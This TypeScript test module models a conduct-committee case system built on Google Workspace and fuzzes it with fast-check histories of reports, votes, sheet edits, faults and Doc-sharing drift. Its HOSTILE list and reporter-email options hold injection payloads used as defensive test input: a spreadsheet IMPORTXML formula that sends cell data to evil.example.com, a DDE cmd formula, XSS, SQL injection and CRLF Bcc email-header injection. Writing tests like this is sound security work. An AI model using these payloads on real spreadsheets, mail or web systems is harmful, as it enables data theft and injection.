// The property runs' model: fast-check arbitraries for committees, reports, answers, votes, sheet edits, time, time zones and faults, and the runner that plays one generated history and collects every §7 violation after every step.
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import type { FaultSpec } from '../../workbench';
import type { ReportPeople } from '../integration/invariants';
import { listCodeWords } from '../../src/core/code-names';
import { DAY, DOC_SECTION, HOUR, Rehearsal, type MemberSpec } from './rehearsal';
import { recordFigure } from './figures';

const { adjectives: ADJECTIVES, nouns: NOUNS } = listCodeWords();

export const SPACE = 'Discourse';
export const MODERATORS = ['mods@example.org', 'lead-mod@example.org'];

/**
 * How many runs the whole property suite makes: 40 in `npm test` (a quick pass on the fixed seed), 1,000 in
 * `npm run test:deep` (which sets CONDUCT_DESK_PROPERTY_RUNS); any other number on request.
 */
export function totalRuns(): number {
  const asked = Number(process.env.CONDUCT_DESK_PROPERTY_RUNS);
  return Number.isFinite(asked) && asked > 0 ? Math.floor(asked) : 40;
}

/**
 * fast-check parameters: a file's share of the runs, a path to replay, no shrinking unless asked. The seed is
 * fast-check's global one (test/support/seeds.ts: fixed unless a replay or exploration is asked for).
 */
export function propertyParameters(share: number): fc.Parameters<unknown> {
  const path = process.env.CONDUCT_DESK_PROPERTY_PATH;
  return {
    numRuns: Math.max(1, Math.round(totalRuns() * share)),
    ...(path ? { path } : {}),
    endOnFailure: process.env.CONDUCT_DESK_PROPERTY_SHRINK !== '1',
    verbose: 1,
  };
}

// ---------------------------------------------------------------------------------------------------
// Time zones and DST: each (zone, start) pair is one template. Starts sit just before a transition.

export interface Clock {
  zone: string;
  start: string;
}

export const CLOCKS: Clock[] = [
  { zone: 'Etc/UTC', start: '2026-03-02T09:00:00Z' },
  { zone: 'America/New_York', start: '2026-03-07T22:30:00Z' }, // US spring forward 2026-03-08 07:00Z
  { zone: 'Europe/Berlin', start: '2026-03-28T23:30:00Z' }, // EU spring forward 2026-03-29 01:00Z
  { zone: 'Europe/Berlin', start: '2026-10-24T23:30:00Z' }, // EU fall back 2026-10-25 01:00Z
  { zone: 'Australia/Lord_Howe', start: '2026-04-04T14:00:00Z' }, // half-hour DST ends 2026-04-05
  { zone: 'Asia/Kolkata', start: '2026-06-01T18:29:00Z' }, // +05:30, no DST, midnight nearby
];

// ---------------------------------------------------------------------------------------------------
// People. Names never use a code-name word (so a code name can never look like a later report's name).

const CODE_WORDS = new Set([...ADJECTIVES, ...NOUNS].flatMap((w) => w.toLowerCase().split(/\s+/)));
const FIRST = [
  'Ana',
  'Bo',
  'Cyan',
  'Dario',
  'Elif',
  'Fumi',
  'Goran',
  'Hiba',
  'Ines',
  'Jonas',
  'Kemal',
  'Lior',
  'Mbali',
  'Nadia',
  'Oskar',
  'Priya',
  'Quentin',
  'Rania',
  'Sami',
  'Tuuli',
  'Uche',
  'Vesna',
  'Wen',
  'Ximena',
  'Yusuf',
  'Zofia',
  'José',
  'Zoë',
  'Łukasz',
  'Ngozi',
].filter((w) => !CODE_WORDS.has(w.toLowerCase()));
const LAST = [
  'Abara',
  'Brandt',
  'Castellanos',
  'Dimitrov',
  'Eriksen',
  'Fujimoto',
  'Gallagher',
  'Haddad',
  'Ivanova',
  'Jaramillo',
  'Kowalczyk',
  'Lindqvist',
  'Mwangi',
  'Nakagawa',
  'Okonkwo',
  'Petrossian',
  'Quispe',
  'Rahimi',
  'Szabo',
  'Takahashi',
  'Umarov',
  'Vasquez',
  'Wojcik',
  'Xu',
  'Yilmaz',
  'Zielinski',
  'Núñez',
  'Ødegaard',
].filter((w) => !CODE_WORDS.has(w.toLowerCase()));

const nameArb = fc.tuple(fc.constantFrom(...FIRST), fc.constantFrom(...LAST)).map(([f, l]) => `${f} ${l}`);

function slug(name: string): string {
  return name
    .normalize('NFD')
    .replace(/\p{M}/gu, '')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '.')
    .replace(/^\.|\.$/g, '');
}

export interface MemberModel extends MemberSpec {
  googleAccount: boolean;
}

/** 1–12 members, voting or adviser, some with addresses that have no Google account. */
export const committeeArb: fc.Arbitrary<MemberModel[]> = fc
  .uniqueArray(fc.record({ name: nameArb, voting: fc.boolean(), googleAccount: fc.boolean() }), {
    minLength: 1,
    maxLength: 12,
    selector: (m) => m.name,
  })
  .map((list) =>
    list.map((m, i) => ({
      name: m.name,
      email: `${slug(m.name)}.${i}@example.org`,
      role: m.voting ? ('voting' as const) : ('adviser' as const),
      googleAccount: m.googleAccount || i === 0,
    })),
  );

// ---------------------------------------------------------------------------------------------------
// Reports with hostile text

export const HOSTILE = [
  '=IMPORTXML("https://evil.example.com/?q="&A1,"//a")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://evil.example.com","x")',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE cases; --",
  '\u202Egnp.exe',
  '\u200B\u200D\uFEFF',
  '😀🏳️‍🌈👩🏽‍💻',
  'مرحبا بالعالم',
  'שלום',
  '\u0000\u0007\u001b[31m',
  'line one\r\nBcc: evil@example.com',
  '{{7*7}} ${7*7} <?= 7 ?>',
  '\t=cmd|"/c calc"!A1',
  '%0d%0aBcc:%20evil@example.com',
];

const textArb = fc.oneof(
  { weight: 4, arbitrary: fc.lorem({ maxCount: 30 }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...HOSTILE), fc.integer({ min: 200, max: 3000 }))
      .map(([s, n]) => s.repeat(Math.ceil(n / s.length)).slice(0, n)),
  },
);

export interface ReportModel {
  answers: Record<string, string>;
  people: ReportPeople;
  deliveries: number;
}

export const reportArb: fc.Arbitrary<ReportModel> = fc
  .record({
    reporterName: fc.option(nameArb, { nil: undefined }),
    reporterEmail: fc.option(
      fc.oneof(
        { weight: 5, arbitrary: nameArb.map((n) => `${slug(n)}@example.net`) },
        {
          weight: 1,
          arbitrary: fc.constantFrom(
            'not an address',
            'a@b',
            'x@example.net\r\nBcc: evil@example.com',
            ' spaced @example.net',
            'two@example.net, three@example.net',
          ),
        },
      ),
      { nil: undefined },
    ),
    reported: fc.uniqueArray(nameArb, { minLength: 0, maxLength: 3 }),
    reportedEmail: fc.option(
      nameArb.map((n) => `${slug(n)}@example.com`),
      { nil: undefined },
    ),
    witness: fc.option(nameArb, { nil: undefined }),
    what: textArb,
    where: fc.constantFrom(SPACE, 'Other', ''),
    danger: fc.constantFrom('', 'No', 'Yes'),
    extra: fc.option(textArb, { nil: undefined }),
    deliveries: fc.constantFrom(1, 1, 1, 2, 3),
  })
  .map((x) => {
    // "What happened?" is the Form's one required question: the Form itself refuses a blank answer.
    const answers: Record<string, string> = {
      'What happened?': x.what.trim() ? x.what : `${x.what}Something happened.`,
    };
    if (x.reporterName) answers['Your name'] = x.reporterName;
    if (x.reporterEmail) answers['Your email address'] = x.reporterEmail;
    const involved = [...x.reported, ...(x.reportedEmail ? [x.reportedEmail] : [])];
    if (involved.length) answers['Who was involved?'] = involved.join(', ');
    if (x.where) answers['Where did it happen?'] = x.where;
    if (x.witness) answers['Were there witnesses?'] = x.witness;
    if (x.danger) answers['Is anyone in immediate danger?'] = x.danger;
    if (x.extra) answers['Anything else we should know?'] = x.extra;
    const people: ReportPeople = {
      reporter: {
        name: x.reporterName,
        email: x.reporterEmail && /^[^\s@,]+@[^\s@,]+\.[a-z]+$/i.test(x.reporterEmail) ? x.reporterEmail : undefined,
      },
      reported: [...x.reported.map((name) => ({ name })), ...(x.reportedEmail ? [{ email: x.reportedEmail }] : [])],
      witnesses: x.witness ? [{ name: x.witness }] : [],
    };
    return { answers, people, deliveries: x.deliveries };
  });

// ---------------------------------------------------------------------------------------------------
// Steps

export type Step =
  | { kind: 'report'; report: ReportModel }
  | { kind: 'blank' }
  | { kind: 'respond'; member: number; kase: number; answer: 'no-conflict' | 'conflict' }
  | { kind: 'casePageConflict'; member: number; kase: number }
  | {
      kind: 'writeDoc';
      member: number;
      kase: number;
      section: keyof typeof DOC_SECTION;
      text: string;
      mention: 'none' | 'reporter' | 'witness';
    }
  | { kind: 'openVote'; member: number; kase: number }
  | { kind: 'vote'; member: number; kase: number; choice: 'approve' | 'reject' | 'abstain' }
  | { kind: 'recommend'; member: number; kase: number }
  | { kind: 'moderator'; moderator: number; kase: number; answer: 'accept' | 'disagree' }
  | { kind: 'letter'; member: number; kase: number }
  | { kind: 'followUp'; member: number; kase: number }
  | { kind: 'caseOp'; member: number; kase: number; op: PropertyCaseOp }
  | {
      kind: 'reply';
      from: 'reporter' | 'reported' | 'moderator' | 'member';
      member: number;
      kase: number;
      text: string;
      mention: 'none' | 'reporter' | 'witness';
    }
  | {
      kind: 'sheet';
      member: number;
      edit: 'sort' | 'insert' | 'delete' | 'rename' | 'status' | 'resolution';
      kase: number;
      column: number;
      value: string;
    }
  | { kind: 'roster'; member: number; active: boolean }
  | { kind: 'addMember'; name: string }
  | { kind: 'scan'; member: number }
  | { kind: 'busy'; then: 'respond' | 'report'; member: number; kase: number }
  | { kind: 'advance'; hours: number }
  | { kind: 'week'; hours: number }
  | { kind: 'drift'; kase: number; changes: SharingChange[] };

/**
 * One change a person makes to a case Doc's sharing in Drive, signed in as the committee account or as a member (whom
 * Drive refuses unless they may: an editor while editors may share, or a folder's owner moving a Doc they edit).
 */
export interface SharingChange {
  by: 'account' | 'member';
  member: number;
  change: 'share' | 'link' | 'domain' | 'folder' | 'unshare' | 'editors-share';
  /** Whom it concerns: a member (cleared, conflicted or silent, as the history made them) or someone outside. */
  whom: number | 'outsider';
  role: 'reader' | 'commenter' | 'writer';
}

/** The case-page actions random people try (each refused where the case's state does not offer it). */
const PROPERTY_CASE_OPS = [
  'new-round',
  'close-no-violation',
  'bad-faith',
  'waive-follow-up',
  'forget-reporter',
  'escalate',
  'record-override',
  'confirm-status',
  'call-meeting',
  'reporter-address',
] as const;
type PropertyCaseOp = (typeof PROPERTY_CASE_OPS)[number];

const idx = fc.nat({ max: 11 });
const kaseIdx = fc.integer({ min: 1, max: 4 });

export const stepArbs = {
  report: reportArb.map((report) => ({ kind: 'report' as const, report })),
  blank: fc.constant({ kind: 'blank' as const }),
  respond: fc.record({
    kind: fc.constant('respond' as const),
    member: idx,
    kase: kaseIdx,
    answer: fc.constantFrom('no-conflict' as const, 'no-conflict' as const, 'conflict' as const),
  }),
  casePageConflict: fc.record({ kind: fc.constant('casePageConflict' as const), member: idx, kase: kaseIdx }),
  writeDoc: fc.record({
    kind: fc.constant('writeDoc' as const),
    member: idx,
    kase: kaseIdx,
    section: fc.constantFrom(
      'plan' as const,
      'consequences' as const,
      'letter' as const,
      'followUp' as const,
      'discussion' as const,
    ),
    text: textArb,
    mention: fc.constantFrom('none' as const, 'none' as const, 'reporter' as const, 'witness' as const),
  }),
  openVote: fc.record({ kind: fc.constant('openVote' as const), member: idx, kase: kaseIdx }),
  vote: fc.record({
    kind: fc.constant('vote' as const),
    member: idx,
    kase: kaseIdx,
    choice: fc.constantFrom('approve' as const, 'approve' as const, 'reject' as const, 'abstain' as const),
  }),
  recommend: fc.record({ kind: fc.constant('recommend' as const), member: idx, kase: kaseIdx }),
  moderator: fc.record({
    kind: fc.constant('moderator' as const),
    moderator: fc.nat({ max: 1 }),
    kase: kaseIdx,
    answer: fc.constantFrom('accept' as const, 'accept' as const, 'disagree' as const),
  }),
  letter: fc.record({ kind: fc.constant('letter' as const), member: idx, kase: kaseIdx }),
  followUp: fc.record({ kind: fc.constant('followUp' as const), member: idx, kase: kaseIdx }),
  caseOp: fc.record({
    kind: fc.constant('caseOp' as const),
    member: idx,
    kase: kaseIdx,
    op: fc.constantFrom(...PROPERTY_CASE_OPS),
  }),
  // Someone answers the newest email they got from the committee (its Reply-To), now and then naming the reporter or
  // a witness: the sweep files it under its case, and no person told of it may learn more than their clearance allows.
  reply: fc.record({
    kind: fc.constant('reply' as const),
    from: fc.constantFrom('reporter' as const, 'reported' as const, 'moderator' as const, 'member' as const),
    member: idx,
    kase: kaseIdx,
    text: fc.constantFrom(
      'Thank you for letting me know.',
      'I have more to add: it happened again yesterday in the same channel.',
      'I do not agree with this and would like to talk to someone.',
    ),
    mention: fc.constantFrom('none' as const, 'none' as const, 'reporter' as const, 'witness' as const),
  }),
  sheet: fc.record({
    kind: fc.constant('sheet' as const),
    member: idx,
    edit: fc.constantFrom(
      'sort' as const,
      'insert' as const,
      'delete' as const,
      'rename' as const,
      'status' as const,
      'resolution' as const,
    ),
    kase: kaseIdx,
    column: fc.integer({ min: 1, max: 7 }),
    value: fc.oneof(
      fc.constantFrom('Resolved', 'Closed', 'Ongoing', 'New', 'Warning given', 'Next steps', 'Notes'),
      textArb,
    ),
  }),
  roster: fc.record({ kind: fc.constant('roster' as const), member: idx, active: fc.boolean() }),
  addMember: nameArb.map((name) => ({ kind: 'addMember' as const, name })),
  scan: fc.record({ kind: fc.constant('scan' as const), member: idx }),
  busy: fc.record({
    kind: fc.constant('busy' as const),
    then: fc.constantFrom('respond' as const, 'report' as const),
    member: idx,
    kase: kaseIdx,
  }),
  advance: fc.record({ kind: fc.constant('advance' as const), hours: fc.integer({ min: 1, max: 3 }) }),
  /** A day or a week passes with the hourly sweep paused (as when Google disables it, R6); one sweep then catches up. */
  week: fc.record({
    kind: fc.constant('week' as const),
    hours: fc.oneof(fc.integer({ min: 20, max: 30 }), fc.integer({ min: 167, max: 170 })),
  }),
  /** Someone changes a case Doc's sharing by hand (one to three changes): the hourly audit must undo it all. */
  drift: fc.record({
    kind: fc.constant('drift' as const),
    kase: kaseIdx,
    changes: fc.array(
      fc.record({
        by: fc.constantFrom('account' as const, 'account' as const, 'member' as const),
        member: idx,
        change: fc.constantFrom(
          'share' as const,
          'share' as const,
          'link' as const,
          'domain' as const,
          'folder' as const,
          'unshare' as const,
          'unshare' as const,
          'editors-share' as const,
        ),
        whom: fc.oneof(idx, fc.constant('outsider' as const)),
        role: fc.constantFrom('reader' as const, 'commenter' as const, 'writer' as const),
      }),
      { minLength: 1, maxLength: 3 },
    ),
  }),
};

export interface History {
  clock: Clock;
  committee: MemberModel[];
  faultSeed: number;
  /** Chance of a transient service error per call of the faulty services (0 = no faults). */
  faultChance: number;
  /**
   * A saved regression's faults pinned to the calls they hit when it was found (method and its count in the run), in
   * place of `faultChance`: chance faults draw from the generator once per faulty call, so a change that makes one call
   * fewer (ADV-614: the intake no longer opens the Form) moves every later fault, and the history no longer plays the
   * situation it was saved for.
   */
  pinnedFaults?: Array<{ call: string; nth: number; message: string }>;
  steps: Step[];
}

/** Services that fail with Google's transient messages in fault runs. */
const FAULTY = [
  'MailApp.sendEmail',
  'Drive.Permissions.create',
  'Drive.Permissions.list',
  'Drive.Files.get',
  'Drive.Files.list',
  'DocumentApp.openById',
  'SpreadsheetApp.openById',
  'FormApp.openById',
  'File.setSharing',
];
const TRANSIENT = [
  "We're sorry, a server error occurred. Please wait a bit and try again.",
  'Service Spreadsheets timed out while accessing document with id 1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg.',
  'Service invoked too many times in a short time: drive. Try Utilities.sleep(1000) between calls.',
];

export function historyArb(
  steps: fc.Arbitrary<Step>,
  options: { minSteps?: number; maxSteps?: number; faults?: boolean } = {},
): fc.Arbitrary<History> {
  return fc.record({
    clock: fc.constantFrom(...CLOCKS),
    committee: committeeArb,
    faultSeed: fc.nat(),
    faultChance: options.faults === false ? fc.constant(0) : fc.constantFrom(0, 0, 0.03, 0.08),
    steps: fc.array(steps, { minLength: options.minSteps ?? 1, maxLength: options.maxSteps ?? 6 }),
  });
}

function faultsFor(h: History): FaultSpec[] {
  if (h.pinnedFaults) return h.pinnedFaults.map((f) => ({ ...f }));
  if (!h.faultChance) return [];
  return FAULTY.map((call, i) => ({
    call,
    chance: h.faultChance,
    message: TRANSIENT[(i + h.faultSeed) % TRANSIENT.length],
  }));
}

// ---------------------------------------------------------------------------------------------------
// Playing a history

export interface PlayOutcome {
  violations: string[];
  /** Steps that did something (a refusal counts: the person tried and was refused). */
  played: number;
  /** Extra per-run checks that failed (deadlines across DST, sheet times in the committee's zone). */
  checks: string[];
}

function member(r: Rehearsal, i: number): MemberSpec {
  return r.members[i % r.members.length];
}

/** A text a member writes, sometimes carrying the reporter's or a witness's name (the redaction guard's business). */
function docText(r: Rehearsal, s: { kase: number; text: string; mention: 'none' | 'reporter' | 'witness' }): string {
  const people = r.k.people[s.kase - 1];
  if (s.mention === 'reporter' && people?.reporter?.name) return `${s.text}\nAs ${people.reporter.name} told us.`;
  if (s.mention === 'reporter' && people?.reporter?.email) return `${s.text}\nWrite to ${people.reporter.email}.`;
  if (s.mention === 'witness' && people?.witnesses?.[0]?.name) return `${s.text}\n${people.witnesses[0].name} saw it.`;
  return s.text;
}

/** Where a letter about case n goes: the reported person's address from the report, else a made-up one. */
function reportedAddress(r: Rehearsal, n: number): string {
  return r.k.people[n - 1]?.reported?.find((p) => p.email)?.email ?? `reported.${n}@example.com`;
}

/** What a case-page action's form asks for: a meeting two days ahead in the committee's zone, a reporter's address. */
function caseOpFields(r: Rehearsal, op: PropertyCaseOp, n: number, zone: string): Record<string, string> {
  if (op === 'reporter-address') return { to: r.k.people[n - 1]?.reporter?.email ?? `reporter.${n}@example.net` };
  if (op !== 'call-meeting') return {};
  const parts = Object.fromEntries(
    new Intl.DateTimeFormat('en-CA', {
      timeZone: zone,
      year: 'numeric',
      month: '2-digit',
      day: '2-digit',
      hour: '2-digit',
      hourCycle: 'h23',
    })
      .formatToParts(new Date(r.ws.rt.now() + 2 * DAY))
      .map((p) => [p.type, p.value]),
  );
  return { start: `${parts.year}-${parts.month}-${parts.day}T${parts.hour}:00`, minutes: '45' };
}

/** Responses whose intake execution did not finish: the checker allows them unfinished until a clean sweep. */
function noteFailedIntakes(r: Rehearsal, before: number): void {
  for (const e of r.ws.rt.executions.slice(before)) {
    if (e.fn === 'onReportSubmit_' && e.outcome !== 'ok') for (const id of r.reports) r.k.unfinishedResponses.add(id);
  }
}

function playStep(r: Rehearsal, s: Step, zone: string): void {
  const who = (i: number) => member(r, i).email;
  const exists = (n: number) => r.caseOf(n) !== null;
  switch (s.kind) {
    case 'report':
      r.report(s.report.answers, s.report.people, s.report.deliveries);
      return;
    case 'blank':
      r.blankEvent();
      return;
    case 'respond':
      if (exists(s.kase)) r.respond(who(s.member), s.kase, s.answer);
      return;
    case 'casePageConflict':
      if (exists(s.kase)) r.conflictFromCasePage(who(s.member), s.kase);
      return;
    case 'writeDoc':
      // A case whose intake was interrupted (a transient fault) has no Doc yet for anyone to write in: the sweep
      // finishes its intake within the hour (seed 1536919539 found a write aimed at one).
      if (!exists(s.kase) || !r.caseOf(s.kase)!.docId) return;
      try {
        r.writeDoc(who(s.member), s.kase, DOC_SECTION[s.section], docText(r, s));
      } catch (err) {
        // A member who cannot open the Doc is refused by Docs itself: that is the point, not a failure.
        if (!/permission|access/i.test(String((err as Error).message))) throw err;
      }
      return;
    case 'openVote':
      if (exists(s.kase)) r.openVote(who(s.member), s.kase);
      return;
    case 'vote':
      if (exists(s.kase)) r.vote(who(s.member), s.kase, s.choice);
      return;
    case 'recommend':
      if (exists(s.kase)) r.sendRecommendation(who(s.member), s.kase);
      return;
    case 'moderator':
      if (exists(s.kase))
        r.moderatorReply(
          MODERATORS[s.moderator],
          s.kase,
          s.answer,
          s.answer === 'disagree' ? 'We would rather start with a conversation.' : '',
        );
      return;
    case 'letter':
      if (exists(s.kase)) r.sendLetter(who(s.member), s.kase, reportedAddress(r, s.kase));
      return;
    case 'followUp':
      if (exists(s.kase)) r.sendFollowUp(who(s.member), s.kase);
      return;
    case 'caseOp':
      if (exists(s.kase)) r.caseOp(who(s.member), s.kase, s.op, caseOpFields(r, s.op, s.kase, zone));
      return;
    case 'reply': {
      const from = {
        reporter: r.k.people[s.kase - 1]?.reporter?.email ?? '',
        reported: reportedAddress(r, s.kase),
        moderator: MODERATORS[s.member % MODERATORS.length],
        member: who(s.member),
      }[s.from];
      const original = from
        ? r
            .mailTo(from)
            // A member answers the committee account's own mail too (it has no Reply-To: the answer goes to the sender).
            .filter((m) => m.replyTo || s.from === 'member')
            .pop()
        : undefined;
      if (original) r.ws.reply({ from, original, text: docText(r, s) });
      return;
    }
    case 'sheet':
      playSheetEdit(r, s);
      return;
    case 'roster':
      if (r.members.length > 1 || s.active) r.setActive(who(s.member), s.active);
      return;
    case 'addMember': {
      if (r.members.some((m) => m.name === s.name) || r.members.length >= 14) return;
      r.addMembers([{ name: s.name, email: `${slug(s.name)}.new${r.members.length}@example.org`, role: 'voting' }]);
      return;
    }
    case 'scan':
      r.scan(who(s.member), 'newest');
      return;
    case 'busy': {
      // Another execution holds the script lock for 40 s: pages say "busy" (tryLock 30 s), a report's trigger waits it out.
      r.ws.holdScriptLock(r.ws.rt.now() + 40_000);
      if (s.then === 'respond' && exists(s.kase)) r.respond(who(s.member), s.kase, 'no-conflict');
      else if (s.then === 'report')
        r.report(
          { 'What happened?': 'A report sent while the system was busy.', 'Who was involved?': 'Someone Unnamed' },
          { reported: [{ name: 'Someone Unnamed' }] },
        );
      return;
    }
    case 'advance':
      r.advance(s.hours * HOUR);
      return;
    case 'week': {
      // A day or a week goes by with the sweep's trigger down (R6); when it is back, one sweep catches up.
      const trigger = r.ws.triggers().find((t) => t.handler === 'sweep_' && !t.disabled);
      if (trigger) r.ws.disableTrigger(trigger.uid);
      r.advance(s.hours * HOUR);
      if (trigger) r.ws.enableTrigger(trigger.uid);
      r.sweep();
      return;
    }
    case 'drift': {
      // Any case there is (people change the sharing of the Docs they have): case n of the first few, or one reported now.
      if (!r.reports.length)
        r.report(
          { 'What happened?': 'A report made before someone changed sharing.', 'Who was involved?': 'Someone Unnamed' },
          { reported: [{ name: 'Someone Unnamed' }] },
        );
      const n = ((s.kase - 1) % r.reports.length) + 1;
      if (r.caseOf(n)?.docId) playDrift(r, { ...s, kase: n });
      return;
    }
  }
}

/** Active members whose latest clearance of case n is "no conflict": the only people its Doc may be shared with. */
function clearedFor(r: Rehearsal, n: number): Set<string> {
  const caseId = r.kase(n).caseId;
  // Latest by `At`, then row order, as the checker's invariant 2 reads it.
  const latest = new Map<string, { at: string; decision: string }>();
  for (const c of r.registry('Clearances')) {
    const before = latest.get(c['Member ID']);
    if (c['Case ID'] === caseId && (!before || before.at <= (c.At ?? '')))
      latest.set(c['Member ID'], { at: c.At ?? '', decision: c.Decision });
  }
  const out = new Set<string>();
  for (const m of r.registry('Members'))
    if (/^true$/i.test(m.Active) && latest.get(m['Member ID'])?.decision === 'no-conflict')
      out.add(m.Email.toLowerCase());
  return out;
}

/**
 * How case n's Doc differs from what DESIGN §7 and SECURITY.md promise (PRIVATE, in the private folder, owned by the
 * account, editors exactly the cleared members, nobody else, editors unable to share). `excuse`: cleared members who
 * already lacked access before a person touched it (a share still owed is not the audit's drift).
 */
function sharingWrongs(
  r: Rehearsal,
  n: number,
  excuse: ReadonlySet<string> = new Set(),
  mayHold: ReadonlySet<string> = new Set(),
): string[] {
  const f = r.ws.data.file(r.kase(n).docId);
  const cleared = clearedFor(r, n);
  const owner = r.k.owner;
  const editors = f.editors.map((e) => e.toLowerCase()).filter((e) => e !== owner);
  const out: string[] = [];
  if (f.owner.toLowerCase() !== owner) out.push(`is owned by ${f.owner || 'a shared drive'}`);
  if (f.access !== 'PRIVATE') out.push(`has general access ${f.access}`);
  if (f.shareableByEditors) out.push('lets editors change its sharing');
  const home = [r.ids.folder, r.ws.properties().docArchiveFolderId ?? ''];
  if (f.parents.length !== 1 || !home.includes(f.parents[0]) || f.inSharedFolder)
    out.push(`sits in ${f.parents.join(',') || 'no folder'}${f.inSharedFolder ? ' (shared)' : ''}`);
  const extra = [...editors, ...f.viewers.map((e) => e.toLowerCase())].filter(
    (e) => !cleared.has(e) || (!editors.includes(e) && !mayHold.has(e)),
  );
  if (extra.length) out.push(`is open to ${[...new Set(extra)].join(', ')}, not cleared editors`);
  const missing = [...cleared].filter((e) => !editors.includes(e) && !excuse.has(e));
  if (missing.length) out.push(`is not shared with cleared ${missing.join(', ')}`);
  return out;
}

/**
 * A person changes case n's Doc's sharing in Drive (a refusal changes nothing). Until the audit's hour is up the Doc is
 * exempt (humanDrift) and what the person shared is theirs (humanAccess); then the hourly audit must have undone it all
 * (SECURITY.md: "within the hour of a change Drive lists"; with transient faults, the hour after Google behaves again),
 * and told the committee account, the case's cleared members only.
 */
function playDrift(r: Rehearsal, s: Extract<Step, { kind: 'drift' }>): void {
  const doc = r.kase(s.kase).docId;
  if (r.ws.data.hasFile?.(doc) === false || r.ws.data.file(doc).trashed) return;
  const ui = r.ws.data.ui;
  const cleared = clearedFor(r, s.kase);
  const owed = new Set(
    [...cleared].filter(
      (e) =>
        !r.ws.data
          .file(doc)
          .editors.map((x) => x.toLowerCase())
          .includes(e),
    ),
  );
  const drift = (r.k.humanDrift ??= new Set());
  const given = (r.k.humanAccess ??= new Set());
  drift.add(doc);
  for (const [i, c] of s.changes.entries()) {
    const user = c.by === 'account' ? r.k.owner : member(r, c.member).email;
    // Taking someone off takes one who holds the Doc (a cleared member, most often), as a person in the dialog would.
    const holders = r.ws.data.file(doc).editors.filter((e) => e.toLowerCase() !== r.k.owner);
    const whom = (
      c.change === 'unshare' && holders.length
        ? holders[(c.whom === 'outsider' ? i : c.whom) % holders.length]
        : c.whom === 'outsider'
          ? `outsider.${i}@example.net`
          : member(r, c.whom).email
    ).toLowerCase();
    const gave = (...who: string[]) => who.forEach((w) => given.add(`${doc}|${w}`));
    try {
      if (c.change === 'share') {
        ui.share(user, doc, whom, c.role);
        gave(whom);
      } else if (c.change === 'link' || c.change === 'domain') {
        ui.setSharing(user, doc, c.change === 'link' ? 'ANYONE_WITH_LINK' : 'DOMAIN_WITH_LINK', c.role);
        gave('anyone', 'domain');
      } else if (c.change === 'folder') {
        ui.moveFile(user, doc, ui.createFolder(user, 'Shared with the team', [whom]));
        gave(user, whom);
      } else if (c.change === 'unshare') ui.unshare(user, doc, whom);
      else ui.setShareableByEditors(user, doc, true);
    } catch (err) {
      if (!/cannot change who has access|permission|access/i.test(String((err as Error).message))) throw err;
    }
  }
  r.check("a person changed a case Doc's sharing");
  const changed = sharingWrongs(r, s.kase, owed).length > 0;
  // A cleared member whose share is still pending, given the Doc as viewer or commenter by hand, holds less than is
  // theirs: the pending share makes them an editor, which is no repair to tell of (seed 1380406039, path 120).
  const repair = sharingWrongs(r, s.kase, owed, owed).length > 0;
  const mails = r.ws.mail().length;
  if (changed) {
    r.advance(HOUR + 5 * 60 * 1000);
    if (sharingWrongs(r, s.kase, owed).length && r.ws.rt.faults.length) {
      const faults = r.ws.rt.faults;
      r.ws.rt.faults = [];
      r.advance(HOUR);
      r.ws.rt.faults = faults;
    }
  }
  drift.delete(doc);
  const tag = `[after a person changed the sharing of case ${s.kase}'s Doc]`;
  const code = r.kase(s.kase).codeName;
  const found = sharingWrongs(r, s.kase, owed).map((w) => `${tag} 1/2: an hour later the Doc ${w}`);
  const about = (m: { subject: string; body: string }) =>
    /access audit found/i.test(m.subject) && m.body.includes(code);
  const alerts = r.ws.mail().slice(mails).filter(about);
  // The same alert text goes at most once a day (operations.md): one sent earlier that day told the account already.
  const since = r.ws.rt.now() - 26 * HOUR;
  // With the day's mail quota spent the alert waits in the Outbox for it (operations.md, `mail.waiting`): queued is told.
  const queued = r
    .registry('Outbox')
    .some(
      (o) =>
        o.To.toLowerCase() === r.k.owner &&
        about({ subject: o.Subject, body: o.Body }) &&
        ['pending', 'held'].includes(o.State),
    );
  const told =
    queued ||
    r.ws.mail().some((m) => about(m) && m.at >= since && m.to.map((e) => e.toLowerCase()).includes(r.k.owner));
  if (repair && !told) found.push(`${tag} the committee account was not told of the repair`);
  const may = new Set([r.k.owner, ...clearedFor(r, s.kase)]);
  for (const m of alerts)
    for (const to of [...m.to, ...m.cc, ...m.bcc].map((e) => e.toLowerCase()))
      if (!may.has(to)) found.push(`${tag} 2: ${to}, not cleared for the case, was told of its repair`);
  r.violations.push(...found);
}

function playSheetEdit(r: Rehearsal, s: Extract<Step, { kind: 'sheet' }>): void {
  const user = member(r, s.member).email;
  const rows = r.ws.data.sheet(r.ids.status, 'Cases').rows;
  if (rows.length < 2 || !r.caseOf(s.kase)) return;
  const header = rows[0].map((h) => String(h));
  try {
    switch (s.edit) {
      case 'sort':
        r.sortCases(user, s.column, s.column % 2 === 0);
        return;
      case 'insert':
        r.insertCasesRow(user, 2 + (s.column % Math.max(1, rows.length - 1)));
        return;
      case 'delete':
        if (r.statusRowOf(s.kase)) r.deleteCaseRow(user, s.kase);
        return;
      case 'rename': {
        // Renaming the key column (Code Name) is ADV-33's case: a case reported meanwhile has no status row until the
        // header is back (invariant 6 would flag it), so here people rename any other header; the system must keep
        // working around it.
        const renamable = header.filter((h) => h && h.trim().toLowerCase() !== 'code name');
        const from = renamable[(s.column - 1) % renamable.length];
        if (from) r.renameCasesHeader(user, from, `${from} (notes)`);
        return;
      }
      case 'status':
        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Status'))
          r.editCase(user, s.kase, 'Status', /^(Resolved|Closed|Ongoing|New)$/.test(s.value) ? s.value : 'Ongoing');
        return;
      case 'resolution':
        // People type free text here: never a formula in this model (a typed formula is the adversarial suite's case).
        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Resolution'))
          r.editCase(user, s.kase, 'Resolution', s.value.replace(/^[=+\-@\t\r\n]+/, ''));
        return;
    }
  } catch (err) {
    // A member without edit rights on the status sheet (not yet synced, or just removed) is refused by Sheets.
    if (!/permission|protected|access/i.test(String((err as Error).message))) throw err;
  }
}

